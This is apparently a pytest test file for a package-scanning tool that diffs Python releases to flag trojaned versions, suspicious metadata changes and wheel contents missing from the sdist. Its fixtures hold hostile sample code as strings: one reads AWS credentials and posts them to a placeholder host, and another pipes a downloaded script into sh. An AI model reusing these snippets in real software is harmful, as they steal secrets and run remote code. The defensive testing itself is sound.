"""A release judged against the one before it: `interlock diff`, history-aware scans, the fact cache.

Every release here is a real archive built by the test; nothing is installed or run.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from interlock.analysis import parallel
from interlock.artifact.reader import read_artifact_bytes
from interlock.demo import build_demo_releases
from interlock.demo.wheel import wheel_bytes, wheel_filename, write
from interlock.diff.compare import DiffError, diff_artifacts
from interlock.store.facts import FactCache
from tests.conftest import run

HARMLESS = "def greet(name):\n    return f'hello {name}'\n"
# Talks to the network at import in both releases: the package's long-standing behaviour.
SPAWNS_AT_IMPORT = (
    "import urllib.request\nLATEST = urllib.request.urlopen('https://example.com/latest').read()\n" + HARMLESS
)
STEALER = (
    "import os, urllib.request\n"
    "data = open(os.path.expanduser('~/.aws/credentials')).read()\n"
    "urllib.request.urlopen('https://collector.example.com/u', data.encode())\n"
)


def release(tmp_path: Path, version: str, files: dict[str, str], name: str = "acme") -> Path:
    return write(tmp_path, wheel_filename(name, version), wheel_bytes(name, version, files))


def diff(old: Path, new: Path, facts: FactCache | None = None):
    read = lambda path: read_artifact_bytes(path.name, path.read_bytes())  # noqa: E731
    return diff_artifacts(read(old), read(new), target=str(new), previous_label=str(old), facts=facts)


# -- what counts as new ------------------------------------------------------------------------


def test_trojaned_release_is_malicious_and_the_new_pth_comes_first(tmp_path: Path) -> None:
    genuine, trojaned = build_demo_releases(tmp_path)
    result = diff(genuine, trojaned)
    assert result.verdict.value == "malicious"
    first = result.findings[0]
    assert (first.path, first.new) == ("acme_greeter_init.pth", True)
    assert result.previous is not None and result.previous.filename == genuine.name
    assert result.changes is not None and "acme_greeter_init.pth" in result.changes.added


def test_behaviour_both_releases_share_is_listed_but_not_counted(tmp_path: Path) -> None:
    old = release(tmp_path, "1.0", {"acme/__init__.py": SPAWNS_AT_IMPORT})
    new = release(tmp_path, "1.1", {"acme/__init__.py": SPAWNS_AT_IMPORT + "\nVERSION = '1.1'\n"})
    result = diff(old, new)
    assert result.verdict.value == "clean"
    assert result.findings and all(finding.new is False for finding in result.findings)


def test_code_injected_into_an_existing_file_is_new_with_its_added_lines(tmp_path: Path) -> None:
    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS, "acme/util.py": HARMLESS})
    new = release(tmp_path, "1.1", {"acme/__init__.py": HARMLESS, "acme/util.py": HARMLESS + STEALER})
    result = diff(old, new)
    assert result.verdict.value == "malicious"
    first = result.findings[0]
    assert (first.path, first.new) == ("acme/util.py", True)
    assert first.line is not None and first.line > HARMLESS.count("\n")
    assert any(line.startswith("+ ") and "credentials" in line for line in first.context)
    assert any(line.startswith("  ") and "return" in line for line in first.context)  # unchanged context


def test_code_that_moved_to_import_time_is_new(tmp_path: Path) -> None:
    body = (
        "import subprocess\n\ndef update():\n    subprocess.run(['sh', '-c', 'curl -s https://x.example.com/i | sh'])\n"
    )
    old = release(tmp_path, "1.0", {"acme/__init__.py": body})
    new = release(tmp_path, "1.1", {"acme/__init__.py": body + "\nupdate()\n"})
    result = diff(old, new)
    moved = [f for f in result.findings if f.new and f.when == "import"]
    assert moved and moved[0].line == 4
    assert result.verdict.value != "clean"


def test_a_critical_finding_counts_even_when_the_previous_release_had_it(tmp_path: Path) -> None:
    old = release(tmp_path, "1.0", {"acme/__init__.py": STEALER})
    new = release(tmp_path, "1.1", {"acme/__init__.py": STEALER + "\nVERSION = '1.1'\n"})
    result = diff(old, new)
    assert result.verdict.value == "malicious"
    assert not any(f.new for f in result.findings if f.severity.label == "critical")


def test_a_console_script_named_pip_appearing_in_a_release_is_critical(tmp_path: Path) -> None:
    old = write(tmp_path, wheel_filename("acme", "1.0"), wheel_bytes("acme", "1.0", {"acme/__init__.py": HARMLESS}))
    hijack = "[console_scripts]\npip = acme._pip:main\n"
    new = write(
        tmp_path,
        wheel_filename("acme", "1.1"),
        wheel_bytes("acme", "1.1", {"acme/__init__.py": HARMLESS}, entry_points=hijack),
    )
    result = diff(old, new)
    assert result.verdict.value == "malicious"
    assert (
        result.findings[0].rule == "entrypoint-shadows-command" and "new in this release" in result.findings[0].message
    )


# -- releases that cannot be compared -----------------------------------------------------------


def test_the_same_file_twice_is_refused(tmp_path: Path) -> None:
    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS})
    with pytest.raises(DiffError, match="same file"):
        diff(old, old)


def test_unrelated_projects_are_refused(tmp_path: Path) -> None:
    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS})
    other = release(tmp_path, "2.0", {"other/__init__.py": HARMLESS}, name="other")
    with pytest.raises(DiffError, match="not releases of the same project"):
        diff(old, other)


def test_an_old_release_newer_than_the_new_one_is_refused(tmp_path: Path) -> None:
    old = release(tmp_path, "2.0", {"acme/__init__.py": HARMLESS})
    new = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS + "\n"})
    with pytest.raises(DiffError, match="swap"):
        diff(old, new)


@pytest.mark.parametrize("case", ["same-file", "unrelated", "swapped"])
def test_the_cli_explains_why_two_releases_cannot_be_compared(
    tmp_path: Path, case: str, capsys: pytest.CaptureFixture[str]
) -> None:
    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS})
    new = {
        "same-file": old,
        "unrelated": release(tmp_path, "2.0", {"other/__init__.py": HARMLESS}, name="other"),
        "swapped": release(tmp_path, "0.9", {"acme/__init__.py": HARMLESS + "\n"}),
    }[case]
    status, out, err = run(capsys, "diff", str(old), str(new))
    assert status == 2 and out == ""
    assert err.startswith("interlock: error: ") and err.count("\n") == 1 and "Traceback" not in err


@pytest.mark.parametrize("fmt", ["json", "sarif", "markdown"])
def test_a_refused_pair_still_gets_the_report_format_asked_for(
    tmp_path: Path, fmt: str, capsys: pytest.CaptureFixture[str]
) -> None:
    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS})
    other = release(tmp_path, "2.0", {"other/__init__.py": HARMLESS}, name="other")
    status, out, err = run(capsys, "diff", "--format", fmt, str(old), str(other))
    assert status == 2 and "not releases of the same project" in err
    if fmt == "json":
        (result,) = json.loads(out)["results"]
        assert result["verdict"] == "error" and "not releases of the same project" in result["error"]
    elif fmt == "sarif":
        assert "not releases of the same project" in json.loads(out)["runs"][0]["results"][0]["message"]["text"]
    else:
        assert "not releases of the same project" in out


def test_the_cli_reports_a_missing_file_as_a_usage_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS})
    status, _, err = run(capsys, "diff", str(old), str(tmp_path / "missing-1.1-py3-none-any.whl"))
    assert status == 2 and "no such file" in err


# -- output --------------------------------------------------------------------------------------


def test_json_output_has_previous_and_marks_each_finding(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    genuine, trojaned = build_demo_releases(tmp_path)
    status, out, _ = run(capsys, "diff", "--format", "json", str(genuine), str(trojaned))
    result = json.loads(out)["results"][0]
    assert status == 1
    assert result["verdict"] == "malicious" and result["previous"]["filename"] == genuine.name
    assert all(isinstance(finding["new"], bool) for finding in result["findings"])
    assert result["findings"][0]["new"] is True
    assert "acme_greeter_init.pth" in result["changes"]["added"]


def test_text_output_names_the_previous_release_and_shows_added_lines(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS, "acme/util.py": HARMLESS})
    new = release(tmp_path, "1.1", {"acme/__init__.py": HARMLESS, "acme/util.py": HARMLESS + STEALER})
    status, out, _ = run(capsys, "diff", str(old), str(new))
    assert status == 1
    assert "compared with" in out and old.name in out
    headline = next(line for line in out.splitlines() if "NEW acme/util.py:" in line)
    assert headline.split()[0] == "critical"
    assert "credential-exfiltration" in out
    assert "+ data = open(os.path.expanduser('~/.aws/credentials')).read()" in out
    assert "files: 0 added, 0 removed, 3 changed, 2 unchanged" in out  # util.py, METADATA and RECORD


def test_text_output_names_removed_files(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS, "acme/legacy.py": HARMLESS})
    new = release(tmp_path, "1.1", {"acme/__init__.py": HARMLESS})
    status, out, _ = run(capsys, "diff", str(old), str(new))
    assert status == 0 and "1 removed" in out and "removed acme/legacy.py" in out


# -- only what changed is analysed -------------------------------------------------------------


def test_a_warm_fact_cache_analyses_only_the_files_that_changed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = {f"acme/mod{number}.py": HARMLESS + f"N = {number}\n" for number in range(20)}
    old = release(tmp_path, "1.0", {"acme/__init__.py": "", **files})
    new = release(tmp_path, "1.1", {"acme/__init__.py": "", **files, "acme/mod3.py": HARMLESS + STEALER})
    analysed: list[str] = []
    real = parallel._analyse

    def counting(artifact, job):
        analysed.append(job[0])
        return real(artifact, job)

    monkeypatch.setattr(parallel, "_analyse", counting)
    facts = FactCache(tmp_path / "facts.sqlite3")
    first = diff(old, new, facts)
    assert len(analysed) == 2 * 21 - 20  # everything once; the 20 unchanged files only for OLD
    analysed.clear()
    second = diff(old, new, facts)
    assert analysed == []
    assert [(f.rule, f.path, f.line, f.new) for f in second.findings] == [
        (f.rule, f.path, f.line, f.new) for f in first.findings
    ]


# -- history: scan NAME==VERSION against the previous release on the index ------------------------


@pytest.fixture
def index_with_history(served_demo: str, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.delenv("INTERLOCK_NO_HISTORY", raising=False)
    return served_demo


def test_scan_by_name_compares_with_the_previous_release(
    index_with_history: str, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, _ = run(capsys, "scan", "--index-url", index_with_history, "--format", "json", "acme-greeter==1.0.1")
    result = json.loads(out)["results"][0]
    assert status == 1 and result["verdict"] == "malicious"
    assert result["previous"]["target"] == "acme-greeter==1.0.0"
    assert result["findings"][0]["new"] is True


def test_a_first_release_says_it_has_no_history(index_with_history: str, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, _ = run(capsys, "scan", "--index-url", index_with_history, "--format", "json", "acme-greeter==1.0.0")
    result = json.loads(out)["results"][0]
    assert status == 0 and result["verdict"] == "clean"
    assert "previous" not in result and "first release" in result["history"]


def test_no_history_judges_the_release_alone(index_with_history: str, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, _ = run(
        capsys, "scan", "--no-history", "--index-url", index_with_history, "--format", "json", "acme-greeter==1.0.1"
    )
    result = json.loads(out)["results"][0]
    assert status == 1 and "previous" not in result and "history" not in result
    assert all("new" not in finding for finding in result["findings"])


@pytest.mark.slow
def test_a_local_file_with_the_index_down_is_judged_alone_and_says_why(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, unreachable_index: str, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.delenv("INTERLOCK_NO_HISTORY", raising=False)
    genuine, trojaned = build_demo_releases(tmp_path)
    status, out, err = run(
        capsys,
        "scan",
        "--index-url",
        unreachable_index,
        "--format",
        "json",
        str(trojaned),
        str(genuine),
    )
    results = json.loads(out)["results"]
    assert status == 1 and [r["verdict"] for r in results] == ["malicious", "clean"]
    assert all(r["history"].startswith("history unavailable") for r in results) and "Traceback" not in err


@pytest.mark.slow
def test_diff_by_name_with_the_index_down_is_an_error_not_a_traceback(
    unreachable_index: str, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, err = run(
        capsys, "diff", "--index-url", unreachable_index, "--format", "json", "acme==1.0", "acme==1.1"
    )
    assert status == 3 and json.loads(out)["results"][0]["verdict"] == "error"
    assert "Traceback" not in err


def test_diff_by_name_fetches_both_releases(index_with_history: str, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, _ = run(
        capsys,
        "diff",
        "--index-url",
        index_with_history,
        "--format",
        "json",
        "acme-greeter==1.0.0",
        "acme-greeter==1.0.1",
    )
    result = json.loads(out)["results"][0]
    assert status == 1 and result["verdict"] == "malicious"
    assert (
        result["previous"]["target"] == "acme-greeter==1.0.0"
        and result["findings"][0]["path"] == "acme_greeter_init.pth"
    )


# -- what the metadata says changed -----------------------------------------------------------------


def release_with_metadata(tmp_path: Path, version: str, headers: str) -> Path:
    """A wheel whose METADATA carries `headers` after Name and Version (RECORD kept consistent)."""
    import zipfile

    plain = wheel_bytes("acme", version, {"acme/__init__.py": HARMLESS})
    path = tmp_path / wheel_filename("acme", version)
    with zipfile.ZipFile(__import__("io").BytesIO(plain)) as source, zipfile.ZipFile(path, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.endswith("/METADATA"):
                data = f"Metadata-Version: 2.1\nName: acme\nVersion: {version}\n{headers}".encode()
            elif info.filename.endswith("/RECORD"):
                continue
            target.writestr(info.filename, data)
        target.writestr(f"acme-{version}.dist-info/RECORD", "")  # rebuilt below
    return _with_record(path)


def _with_record(path: Path) -> Path:
    import base64
    import hashlib
    import zipfile

    with zipfile.ZipFile(path) as archive:
        members = {
            info.filename: archive.read(info) for info in archive.infolist() if not info.filename.endswith("/RECORD")
        }
    record_path = next(name for name in members if name.endswith("/METADATA")).rsplit("/", 1)[0] + "/RECORD"
    lines = [
        f"{name},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},{len(data)}"
        for name, data in members.items()
    ]
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        archive.writestr(record_path, "\n".join([*lines, f"{record_path},,"]) + "\n")
    return path


def new_rules(result) -> list[str]:
    return [f.rule for f in result.findings if f.new]


def test_a_version_far_beyond_the_release_line_is_high(tmp_path: Path) -> None:
    old = release_with_metadata(tmp_path, "1.4.2", "")
    new = release_with_metadata(tmp_path, "99.0.0", "")
    result = diff(old, new)
    assert new_rules(result) == ["version-jump"] and result.verdict.value == "suspicious"
    ordinary = new_rules(diff(old, release_with_metadata(tmp_path, "2.0.0", "")))
    assert "version-jump" not in ordinary and ordinary == []  # an ordinary major release
    calendar = new_rules(
        diff(release_with_metadata(tmp_path, "20251230", ""), release_with_metadata(tmp_path, "20260107", ""))
    )
    assert "version-jump" not in calendar and calendar == []  # calendar versioning


def test_a_dependency_added_in_a_patch_release_is_reported(tmp_path: Path) -> None:
    old = release_with_metadata(tmp_path, "1.4.2", "Requires-Dist: requests>=2\n")
    patch = release_with_metadata(tmp_path, "1.4.3", "Requires-Dist: requests>=2\nRequires-Dist: colorsys-helper\n")
    minor = release_with_metadata(tmp_path, "1.5.0", "Requires-Dist: requests>=2\nRequires-Dist: colorsys-helper\n")
    assert new_rules(diff(old, patch)) == ["dependency-added-in-patch"]
    assert "colorsys-helper" in diff(old, patch).findings[0].message
    in_minor = new_rules(diff(old, minor))
    assert (
        "dependency-added-in-patch" not in in_minor and in_minor == []
    )  # new dependencies in a minor release are ordinary


def test_new_author_domain_and_project_urls_are_reported(tmp_path: Path) -> None:
    old = release_with_metadata(
        tmp_path, "1.0.0", "Author-email: Ann <ann@acme.example>\nProject-URL: Source, https://git.example/acme/acme\n"
    )
    same = release_with_metadata(
        tmp_path, "1.0.1", "Author-email: Bob <bob@acme.example>\nProject-URL: Source, https://git.example/acme/acme\n"
    )
    taken = release_with_metadata(
        tmp_path, "1.0.2", "Author-email: X <x@mail.example>\nProject-URL: Source, https://git.example/acrne/acme\n"
    )
    unchanged = new_rules(diff(old, same))  # another author of the same domain, same URL
    assert "maintainer-changed" not in unchanged and "project-urls-changed" not in unchanged and unchanged == []
    assert sorted(new_rules(diff(old, taken))) == ["maintainer-changed", "project-urls-changed"]


# -- a wheel against the sdist published with it -----------------------------------------------------


def test_a_pth_in_the_wheel_that_the_sdist_lacks_is_high(
    index, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from interlock.demo.wheel import sdist_bytes, sdist_filename

    monkeypatch.delenv("INTERLOCK_NO_HISTORY", raising=False)
    source = {"acme/__init__.py": HARMLESS}
    wheel = wheel_bytes(
        "acme", "1.0", {**source, "acme_init.pth": "import os; os.getpid()\n", "acme/_version.py": "v = '1.0'\n"}
    )
    index.json_project(
        "acme",
        {wheel_filename("acme", "1.0"): wheel, sdist_filename("acme", "1.0"): sdist_bytes("acme", "1.0", source)},
    )
    status, out, _ = run(capsys, "scan", "--index-url", index.simple, "--format", "json", "acme==1.0")
    findings = json.loads(out)["results"][0]["findings"]
    flagged = [(f["rule"], f["severity"], f["path"]) for f in findings if f["rule"] == "wheel-not-from-sdist"]
    assert flagged == [("wheel-not-from-sdist", "high", "acme_init.pth")]  # the generated _version.py is expected
    assert status == 1


def test_a_wheel_built_from_its_sdist_has_nothing_the_sdist_lacks(
    index, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from interlock.demo.wheel import sdist_bytes, sdist_filename
    from tests.builders import NSPKG

    monkeypatch.delenv("INTERLOCK_NO_HISTORY", raising=False)
    source = {"acme/__init__.py": HARMLESS, "acme/util.py": HARMLESS}
    wheel = wheel_bytes("acme", "1.0", {**source, "acme-1.0-nspkg.pth": NSPKG + "\n"})
    sdist = sdist_bytes("acme", "1.0", {f"src/{path}": text for path, text in source.items()})
    index.json_project("acme", {wheel_filename("acme", "1.0"): wheel, sdist_filename("acme", "1.0"): sdist})
    status, out, _ = run(capsys, "scan", "--index-url", index.simple, "--format", "json", "acme==1.0")
    result = json.loads(out)["results"][0]
    assert "wheel-not-from-sdist" not in [f["rule"] for f in result["findings"]]
    assert status == 0 and result["verdict"] == "clean"


def test_a_local_file_of_a_project_the_index_lacks_says_so(
    index_with_history: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    private = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS}, name="acme-internal")
    status, out, _ = run(capsys, "scan", "--index-url", index_with_history, "--format", "json", str(private))
    result = json.loads(out)["results"][0]
    assert status == 0 and result["verdict"] == "clean" and "not on the index" in result["history"]


def test_diff_by_name_with_an_index_answering_garbage_is_an_error(index, capsys: pytest.CaptureFixture[str]) -> None:
    from tests.fake_index import Reply

    index.route("/simple/acme/", Reply(b"\x00\xff<html><a href=", content_type="application/vnd.pypi.simple.v1+json"))
    status, out, err = run(capsys, "diff", "--index-url", index.simple, "--format", "json", "acme==1.0", "acme==1.1")
    assert status == 3 and json.loads(out)["results"][0]["verdict"] == "error"
    assert "Traceback" not in err
